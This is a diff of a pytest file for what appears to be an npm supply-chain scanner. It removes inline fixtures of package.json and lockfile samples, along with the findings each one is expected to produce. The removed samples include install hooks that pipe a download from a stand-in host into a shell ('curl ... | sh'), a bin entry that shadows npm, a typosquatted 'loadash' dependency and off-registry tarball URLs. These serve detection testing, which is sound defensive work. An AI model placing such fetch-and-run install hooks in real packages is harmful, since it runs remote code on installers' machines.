@@ -1,52 +1,11 @@
 """Manifests and lockfiles with the findings they must give, written down apart from the patterns."""
 
-import json
-
 import pytest
 
 from sparkwarden.operators import lockfiles, manifests
+from sparkwarden.sources.samples import LOCKS, MANIFESTS, E, lock, pkg
 
-E = "example.invalid"
 KIND = "repo_id int, path string, content string"
-pkg = lambda **x: json.dumps({"name": "x"} | x)
-chain = {"postinstall": "npm run s0"} | {f"s{k}": f"npm run s{k + 1}" for k in range(60)} | {"s60": f"curl http://x.{E}/p | sh"}
-nested: dict = {"deep": f"https://x.{E}/a.tgz"}
-for _ in range(40):
-    nested = {"a": nested}
-CASES = [
-    (pkg(), []),
-    ("{ not json", [("broken-package-json", "low", None)]),
-    ("null", [("broken-package-json", "low", None)]),
-    ("[1]", []),
-    (pkg(scripts={"postinstall": f"curl http://x.{E}/p | sh"}), [("lifecycle-script", "high", 1)]),
-    ('{\n"scripts": {\n"prepare": "husky install"}}', [("lifecycle-script", "low", 3)]),
-    (pkg(scripts={"postinstall": "npm run setup", "setup": f"bash <(curl -s http://x.{E}/i.sh)"}), [("lifecycle-script", "high", 1), ("dangerous-npm-script", "medium", 1)]),
-    (pkg(scripts={"postinstall": "npm run a && npm run b", "a": "npm run b", "b": "npm run a"}), [("lifecycle-script", "low", 1)]),
-    (pkg(scripts=chain), [("lifecycle-script", "high", 1), ("dangerous-npm-script", "low", 1)]),
-    (pkg(scripts={"release": "eval $X", "start": "eval $X", "ok": "tsc"}), [("dangerous-npm-script", "low", 1), ("dangerous-npm-script", "medium", 1)]),
-    (pkg(scripts={"postinstall": 3}), []),
-    (pkg(dependencies={"robotjs": "1"}), [("surveillance-dependency", "medium", 1)]),
-    (pkg(dependencies={"react": "npm:react-dom-helper-x@1"}), [("npm-alias-mismatch", "high", 1)]),
-    (pkg(dependencies={"react": "npm:@own/react-core@1", "lodash": "npm:lodash@4", "react-builtin": "npm:react@18"}), [("npm-alias-mismatch", "medium", 1)]),
-    (pkg(dependencies={"react": "npm:wp-react@1"}), [("npm-alias-mismatch", "medium", 1)]),
-    (pkg(dependencies={"typescript": "npm:@typescript/typescript6@1"}), []),
-    (pkg(dependencies={"a-thing": f"git+https://x.{E}/a.git", "b-thing": f"https://x.{E}/{'a' * 40}.tgz", "c-thing": "github:o/r#v1.2.3", "forge": "github:foundry-rs/forge-std"}), [("manifest-non-registry-dependency", "low", 1)] * 3 + [("manifest-non-registry-dependency", "medium", 1)]),
-    (pkg(dependencies={"a-thing": "^1"}, peerDependencies={"a-thing": f"https://x.{E}/a.tgz"}), [("manifest-non-registry-dependency", "medium", 1)]),
-    (pkg(dependencies={"a-thing": f"https://x.{E}/a.tgz"}, devDependencies={"a-thing": "^1"}), []),
-    (pkg(overrides={"lodash": f"https://x.{E}/l.tgz"}), [("override-redirect", "medium", 1)]),
-    (pkg(overrides={"lodash": "4.17.21", "nested": {"minimist": "1.2.8"}}), []),
-    (pkg(resolutions=nested), [("override-redirect", "medium", 1)]),
-    (pkg(overrides={"a": ["1", "file:../x"]}), [("override-redirect", "medium", 1)]),
-    (pkg(gypfile=True), [("native-build-at-install", "medium", 1)]),
-    (pkg(gypfile="true"), []),
-    (pkg(bin={"npm": "./lib/hijack.js"}), [("bin-command-shadowing", "high", 1)]),
-    (json.dumps({"name": "npm", "bin": {"npx": "a.js"}}), []),
-    (pkg(bin={"widget-cli": "./cli.js"}), []),
-    (pkg(dependencies={"react": "18", "express": "4", "ws": "8"}), [("odd-dependency-mix", "medium", None)]),
-    (pkg(dependencies={"react": "18", "express": "4"}), []),
-    (pkg(dependencies={"loadash": "1"}), [("known-malicious-package", "high", None)]),
-    (pkg(dependencies={"loadash": "file:../loadash"}), []),
-]
 
 
 def rows(spark, cases, path):
@@ -55,9 +14,9 @@ def rows(spark, cases, path):
 
 def test_manifests(spark):
     got: dict[int, list] = {}
-    for r in manifests.manifest_findings(rows(spark, CASES, "package.json")).collect():
+    for r in manifests.manifest_findings(rows(spark, MANIFESTS, "package.json")).collect():
         got.setdefault(r["repo_id"], []).append((r["id"], r["severity"], r["line"]))
-    assert [(c, got.get(k)) for k, c in enumerate(CASES) if sorted(got.get(k, []), key=str) != sorted(c[1], key=str)] == []
+    assert [(c, got.get(k)) for k, c in enumerate(MANIFESTS) if sorted(got.get(k, []), key=str) != sorted(c[1], key=str)] == []
 
 
 def test_script_references(spark):
@@ -71,43 +30,6 @@ def test_script_references(spark):
     assert got == {(0, "x"), (0, "bin/go"), (0, "bin/w.js"), (1, "cli.js")}
 
 
-def lock(packages):
-    return json.dumps({"lockfileVersion": 3, "packages": {"": {"name": "x"}} | packages}, indent=1)
-
-
-def reg(name, **x):
-    return {"version": "1.0.0", "resolved": f"https://registry.npmjs.org/{name}/-/{name}-1.0.0.tgz"} | x
-
-
-V1 = {"lockfileVersion": 1, "dependencies": {"lodash": {"resolved": f"https://cdn.evil.{E}/l.tgz"}, "outer": {"resolved": "https://registry.npmjs.org/o.tgz", "dependencies": {"inner": {"resolved": "git+https://github.com/evil/inner.git"}}}}}
-OLD = {"lockfileVersion": 1, "dependencies": {n: {"resolved": f"http://registry.npmjs.org/{n}.tgz"} for n in "abc"}}
-LOCKS = [
-    ("package-lock.json", lock({"node_modules/express": reg("express")}), []),
-    ("package-lock.json", lock({"node_modules/a": {"resolved": "https://r2.cnpmjs.org/a.tgz"}}), []),
-    ("package-lock.json", lock({"node_modules/a": {"resolved": f"https://cdn.{E}/a.tgz"}}), [("lockfile-off-registry", "high", 8)]),
-    ("x/npm-shrinkwrap.json", lock({"node_modules/a": {"resolved": "git+ssh://git@github.com/someone/a.git#abc123"}}), [("lockfile-git-dependency", "medium", 8)]),
-    ("package-lock.json", lock({"node_modules/f": {"resolved": "git+ssh://git@github.com/foundry-rs/forge-std.git#abc123"}}), [("lockfile-git-dependency", "low", 8)]),
-    ("package-lock.json", lock({"node_modules/totally-normal-utils": reg("t", hasInstallScript=True)}), [("transitive-install-script", "medium", None)]),
-    ("package-lock.json", lock({"node_modules/t": reg("t", hasInstallScript=True), "node_modules/u": reg("u", dependencies={"t": "1"})}), [("transitive-install-script", "low", None)]),
-    ("package-lock.json", lock({"node_modules/esbuild": reg("e", hasInstallScript=True), "node_modules/@esbuild/linux-x64": reg("l", hasInstallScript=True)}), []),
-    ("package-lock.json", lock({"node_modules/express/node_modules/loadash": reg("loadash")}), [("known-malicious-package", "high", None)]),
-    ("package-lock.json", "{ definitely not json", [("unparseable-lockfile", "low", None)]),
-    ("package-lock.json", "[1,2,3]", [("unparseable-lockfile", "low", None)]),
-    ("package-lock.json", lock({"web": {"name": "root-web"}, "node_modules/root-web": {"resolved": "web", "link": True}, "node_modules/l": {"resolved": "packages/l"}}), []),
-    ("package-lock.json", json.dumps(V1), [("lockfile-off-registry", "high", 1), ("lockfile-git-dependency", "medium", 1)]),
-    ("package-lock.json", json.dumps({"dependencies": {"some-pkg": {"requires": {}, "hasInstallScript": True}}}), [("transitive-install-script", "medium", None)]),
-    ("package-lock.json", json.dumps(OLD), [("lockfile-insecure-registry-url", "low", 1)]),
-    ("package-lock.json", lock({"node_modules/a": {"name": 5, "resolved": 7}, "node_modules/b": "x"}), []),
-    ("yarn.lock", 'lodash@^4:\n  version "4"\n  resolved "https://registry.yarnpkg.com/l.tgz#abc"', []),
-    ("yarn.lock", f'lodash@^4:\n  version "4"\n  resolved "https://files.{E}/l.tgz"', [("lockfile-off-registry", "high", 3)]),
-    ("yarn.lock", f'"@s/p@npm:^1":\n  resolution: "@s/p@npm:1.2.3"\n"app@workspace:packages/app":\n  resolution: "app@workspace:packages/app"\n"evil@https://cdn.{E}/e.tgz":\n  resolution: "evil@https://cdn.{E}/e.tgz"\n"g@x":\n  resolution: "g@https://github.com/acme/g.git#commit=abc"', [("lockfile-off-registry", "high", 6), ("lockfile-git-dependency", "medium", 8)]),
-    ("pnpm-lock.yaml", f"packages:\n  /some@1.0.0:\n    resolution:\n      tarball: https://storage.{E}/s.tgz\n  /other@2.0.0:\n    resolution:\n      repo: https://github.com/x/other.git\n      commit: abc", [("lockfile-off-registry", "high", 4), ("lockfile-git-dependency", "medium", 7)]),
-    ("pnpm-lock.yaml", "packages:\n  /left-pad@1.3.0:\n    resolution:\n      tarball: https://registry.npmjs.org/l.tgz", []),
-    ("pnpm-lock.yaml", f"packages:\n  lodash@4:\n    resolution: {{integrity: sha512-abc}}\n  '@scope/thing@1.0.0':\n    resolution: {{tarball: https://storage.{E}/t.tgz}}\n  g@1.2.3:\n    resolution: {{commit: abc, repo: https://github.com/x/g.git, type: git}}", [("lockfile-off-registry", "high", 5), ("lockfile-git-dependency", "medium", 7)]),
-    ("src/index.js", 'resolved "http://x"', []),
-]
-
-
 @pytest.fixture(scope="module")
 def locked(spark):
     files = spark.createDataFrame([(k, p, c) for k, (p, c, _) in enumerate(LOCKS)], KIND).repartition(3)
